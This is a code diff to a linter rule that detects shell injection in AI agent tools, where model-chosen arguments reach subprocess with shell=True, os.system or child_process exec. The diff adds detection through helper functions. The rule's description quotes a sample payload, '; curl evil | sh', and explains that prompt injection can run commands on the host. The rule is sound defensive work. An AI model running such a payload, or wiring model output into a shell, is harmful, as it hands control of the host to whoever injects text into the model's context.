@@ -1,9 +1,12 @@
-import type { Node } from 'web-tree-sitter';
-import { calls, keywordArgument, positionalArguments, qualifiedCallee } from '../ast/python.js';
-import { callExpressions, objectProperty, tsArguments, tsCalleeText } from '../ast/typescript.js';
+import type { Node, Tree } from 'web-tree-sitter';
+import { calls, importedCallee, keywordArgument, positionalArguments, pythonImportMap, type ImportMap } from '../ast/python.js';
+import { callExpressions, objectProperty, tsArguments, tsCalleeText, tsImportMap } from '../ast/typescript.js';
 import { defineRule } from '../define.js';
-import { nodeModuleBindings, PY_OR_TS } from './support/common.js';
-import { analysePython, analyseTs, describeOrigin } from './support/sinks.js';
+import { HELPER_HOP_SENTENCE, nodeModuleBindings, PY_OR_TS, quoteNames, TOOL_DECLARATIONS_KNOWN } from './support/common.js';
+import { pythonAnalysisInAgent, pythonHelperFlows, pythonMayHoldTools, type PythonSinkSpec } from './support/helper-calls.js';
+import type { ParsedModule } from './support/agent-modules.js';
+import { describeOrigin } from './support/sinks.js';
+import { TS_TOOL_TEXT, tsAnalysisInAgent, tsHelperFlows, type TsSinkSpec } from './support/ts-helper-calls.js';
 
 const SUBPROCESS_SHELL_OPTIONAL = new Set(['subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen']);
 const ALWAYS_SHELL = new Set(['os.system', 'os.popen', 'subprocess.getoutput', 'subprocess.getstatusoutput', 'asyncio.create_subprocess_shell', 'commands.getoutput']);
@@ -20,7 +23,8 @@ export const shellInjectionCheck = defineRule(
     description:
       'A tool argument or model response is interpolated into a command that a shell parses: subprocess with shell=True, os.system, os.popen, ' +
       'asyncio.create_subprocess_shell, or Node child_process exec/execSync. The model chooses tool arguments, so text injected into its context ' +
-      '(`; curl evil | sh`, `$(...)`) runs as commands on the host.',
+      '(`; curl evil | sh`, `$(...)`) runs as commands on the host. ' +
+      HELPER_HOP_SENTENCE,
     persona: 'secops',
     category: 'security',
     severity: 'error',
@@ -30,6 +34,7 @@ export const shellInjectionCheck = defineRule(
       'Pass an argument list without a shell: subprocess.run(["git", "log", "--", path], shell=False) or execFile("git", ["log", "--", path]); ' +
       'validate the input against an allowlist of commands/flags, or quote it with shlex.quote when a shell is unavoidable. Run command tools in a sandbox.',
     docs: 'https://docs.python.org/3/library/subprocess.html#security-considerations',
+    knows: TOOL_DECLARATIONS_KNOWN,
     frameworks: ['langchain', 'crewai', 'smolagents', 'openai-agents', 'pydantic-ai', 'google-adk', 'vercel-ai-sdk', 'mastra'],
     precision: 'high',
     securitySeverity: 9.8,
@@ -39,59 +44,139 @@ export const shellInjectionCheck = defineRule(
     async run(context) {
       const { file } = context;
       if (file.language === 'python') {
-        if (!/\b(subprocess|os|asyncio|system|popen|create_subprocess_shell|getoutput)\b/.test(file.text)) return;
-        const tree = await context.tree();
-        if (!tree) return;
-        const analysis = analysePython(tree);
-        for (const call of calls(tree)) {
-          const callee = qualifiedCallee(call, analysis.imports);
-          let label: string;
-          if (ALWAYS_SHELL.has(callee)) label = `${callee}(...)`;
-          else if (SUBPROCESS_SHELL_OPTIONAL.has(callee) && keywordArgument(call, 'shell')?.text === 'True') label = `${callee}(..., shell=True)`;
-          else continue;
-          const command = keywordArgument(call, 'args') ?? keywordArgument(call, 'cmd') ?? keywordArgument(call, 'command') ?? positionalArguments(call)[0];
-          if (!command) continue;
-          const origin = analysis.origin(command, { modelOutput: true, taint: { sanitizers: PY_SANITIZERS } });
-          if (!origin) continue;
+        const hasSinks = PY_SHELL_TEXT.test(file.text);
+        if (!hasSinks && !(await pythonMayHoldTools(context))) return;
+        const scope = await pythonAnalysisInAgent(context);
+        if (!scope) return;
+        const { analysis, modules, module } = scope;
+        if (hasSinks) {
+          for (const call of calls(module.tree)) {
+            const sink = pythonShellSink(call, analysis.imports);
+            if (!sink) continue;
+            const origin = analysis.origin(sink.command, { modelOutput: true, taint: { sanitizers: PY_SANITIZERS } });
+            if (!origin) continue;
+            context.report({
+              start: call.startIndex,
+              end: call.endIndex,
+              message: `${sink.label} ${describeOrigin(origin)}; ${SHELL_RISK}`,
+              fingerprintContent: `${sink.callee}|${origin.kind}|${origin.names.join(',')}`,
+            });
+          }
+        }
+        for (const flow of await pythonHelperFlows(modules, module, analysis, PY_HELPER_SPEC)) {
           context.report({
-            start: call.startIndex,
-            end: call.endIndex,
-            message: `${label} ${describeOrigin(origin)}; the shell interprets ; | && $() in that text, so a prompt injection runs arbitrary commands on the host.`,
-            fingerprintContent: `${callee}|${origin.kind}|${origin.names.join(',')}`,
+            start: flow.call.startIndex,
+            end: flow.call.endIndex,
+            message: `${flow.helper}(...) passes tool input ${quoteNames(flow.names)} of ${flow.tool.name} (${flow.tool.via}) to ${flow.sink.label} at ${flow.where} (its parameter '${flow.param}'); ${SHELL_RISK}`,
+            fingerprintContent: `${flow.helper}|${flow.sink.label}|${flow.names.join(',')}`,
           });
         }
         return;
       }
-      if (!/child_process/.test(file.text)) return;
-      const tree = await context.tree();
-      if (!tree) return;
-      const analysis = analyseTs(tree, file.text);
-      const cp = nodeModuleBindings(tree.rootNode, analysis.imports, 'child_process');
-      const promisified = promisifiedExec(tree.rootNode, cp);
-      for (const call of callExpressions(tree)) {
-        if (call.type !== 'call_expression') continue;
-        const fnName = childProcessFunction(tsCalleeText(call), cp, promisified);
-        if (!fnName) continue;
-        const args = tsArguments(call);
-        if (NODE_OPTIONAL_SHELL.has(fnName)) {
-          const options = args.find((arg) => arg.type === 'object');
-          if (objectProperty(options, 'shell')?.text !== 'true') continue;
-        } else if (!NODE_SHELL_FUNCTIONS.has(fnName)) continue;
-        const command = args[0];
-        if (!command) continue;
-        const origin = analysis.origin(command, { modelOutput: true, taint: { sanitizers: TS_SANITIZERS } });
-        if (!origin) continue;
-        const label = NODE_SHELL_FUNCTIONS.has(fnName) ? `child_process.${fnName}(...)` : `child_process.${fnName}(..., { shell: true })`;
+      const hasSinks = /child_process/.test(file.text);
+      if (!hasSinks && !TS_TOOL_TEXT.test(file.text)) return;
+      const scope = await tsAnalysisInAgent(context);
+      if (!scope) return;
+      const { analysis, modules, module } = scope;
+      if (hasSinks) {
+        const bindings = childProcessBindings(module);
+        for (const call of callExpressions(module.tree)) {
+          const sink = tsShellSink(call, bindings);
+          if (!sink) continue;
+          const origin = analysis.origin(sink.command, { modelOutput: true, taint: { sanitizers: TS_SANITIZERS } });
+          if (!origin) continue;
+          context.report({
+            start: call.startIndex,
+            end: call.endIndex,
+            message: `${sink.label} ${describeOrigin(origin)}; ${sink.fnName} runs the string through /bin/sh, so a prompt injection runs arbitrary commands on the host.`,
+            fingerprintContent: `${sink.fnName}|${origin.kind}|${origin.names.join(',')}`,
+          });
+        }
+      }
+      for (const flow of await tsHelperFlows(modules, module, analysis, TS_HELPER_SPEC)) {
         context.report({
-          start: call.startIndex,
-          end: call.endIndex,
-          message: `${label} ${describeOrigin(origin)}; ${fnName} runs the string through /bin/sh, so a prompt injection runs arbitrary commands on the host.`,
-          fingerprintContent: `${fnName}|${origin.kind}|${origin.names.join(',')}`,
+          start: flow.call.startIndex,
+          end: flow.call.endIndex,
+          message: `${flow.helper}(...) passes tool input ${quoteNames(flow.names)} of ${flow.tool.via} to ${flow.sink.label} at ${flow.where} (its parameter ${flow.param}); that runs the string through /bin/sh, so a prompt injection runs arbitrary commands on the host.`,
+          fingerprintContent: `${flow.helper}|${flow.sink.label}|${flow.names.join(',')}`,
         });
       }
     },
   },
 );
+
+type ChildProcessBindings = { cp: ReturnType<typeof nodeModuleBindings>; promisified: Map<string, string> };
+
+const childProcessMemo = new WeakMap<Tree, ChildProcessBindings>();
+
+/** How the module names child_process and its functions (memoised per tree). */
+function childProcessBindings(module: ParsedModule): ChildProcessBindings {
+  let bindings = childProcessMemo.get(module.tree);
+  if (!bindings) {
+    const cp = nodeModuleBindings(module.tree.rootNode, tsImportMap(module.tree), 'child_process');
+    childProcessMemo.set(module.tree, (bindings = { cp, promisified: promisifiedExec(module.tree.rootNode, cp) }));
+  }
+  return bindings;
+}
+
+/** A child_process call that runs its command through a shell, and the command argument. */
+function tsShellSink(call: Node, { cp, promisified }: ChildProcessBindings): { label: string; fnName: string; command: Node } | undefined {
+  if (call.type !== 'call_expression') return undefined;
+  const fnName = childProcessFunction(tsCalleeText(call), cp, promisified);
+  if (!fnName) return undefined;
+  const args = tsArguments(call);
+  if (NODE_OPTIONAL_SHELL.has(fnName)) {
+    const options = args.find((arg) => arg.type === 'object');
+    if (objectProperty(options, 'shell')?.text !== 'true') return undefined;
+  } else if (!NODE_SHELL_FUNCTIONS.has(fnName)) return undefined;
+  const command = args[0];
+  if (!command) return undefined;
+  const label = NODE_SHELL_FUNCTIONS.has(fnName) ? `child_process.${fnName}(...)` : `child_process.${fnName}(..., { shell: true })`;
+  return { label, fnName, command };
+}
+
+const TS_HELPER_SPEC: TsSinkSpec = {
+  key: 'security/shell-injection',
+  taint: { sanitizers: TS_SANITIZERS },
+  // Promisified names (`run = promisify(exec)`) can be anything: every call is a candidate.
+  mayHaveSink: /\(/,
+  sinks: (calls, taint, module) => {
+    const bindings = childProcessBindings(module);
+    return calls.flatMap((call) => {
+      const sink = tsShellSink(call, bindings);
+      return sink && taint.isTainted(sink.command) ? [{ call, label: sink.label }] : [];
+    });
+  },
+};
+
+const PY_SHELL_TEXT = /\b(subprocess|os|asyncio|system|popen|create_subprocess_shell|getoutput)\b/;
+const SHELL_RISK = 'the shell interprets ; | && $() in that text, so a prompt injection runs arbitrary commands on the host.';
+
+/** A call that hands a command string to a shell, and the argument that carries the command. */
+function pythonShellSink(call: Node, imports: ImportMap): { label: string; callee: string; command: Node } | undefined {
+  const callee = importedCallee(call, imports);
+  if (!callee) return undefined;
+  let label: string;
+  if (ALWAYS_SHELL.has(callee)) label = `${callee}(...)`;
+  else if (SUBPROCESS_SHELL_OPTIONAL.has(callee) && keywordArgument(call, 'shell')?.text === 'True') label = `${callee}(..., shell=True)`;
+  else return undefined;
+  const command = keywordArgument(call, 'args') ?? keywordArgument(call, 'cmd') ?? keywordArgument(call, 'command') ?? positionalArguments(call)[0];
+  return command ? { label, callee, command } : undefined;
+}
+
+/** The same sinks inside a helper a tool calls (one hop, same file or another module of the agent). */
+const PY_HELPER_SPEC: PythonSinkSpec = {
+  key: 'security/shell-injection',
+  taint: { sanitizers: PY_SANITIZERS },
+  mayHaveSink: PY_SHELL_TEXT,
+  sinks: (calls, taint, module) => {
+    const imports = pythonImportMap(module.tree);
+    return calls.flatMap((call) => {
+      const sink = pythonShellSink(call, imports);
+      return sink && taint.isTainted(sink.command) ? [{ call, label: sink.label }] : [];
+    });
+  },
+};
 
 /** `cp.exec`, `exec` (named import), `execAsync` (promisify(exec)) → the child_process function name. */
 function childProcessFunction(callee: string, cp: ReturnType<typeof nodeModuleBindings>, promisified: Map<string, string>): string | undefined {
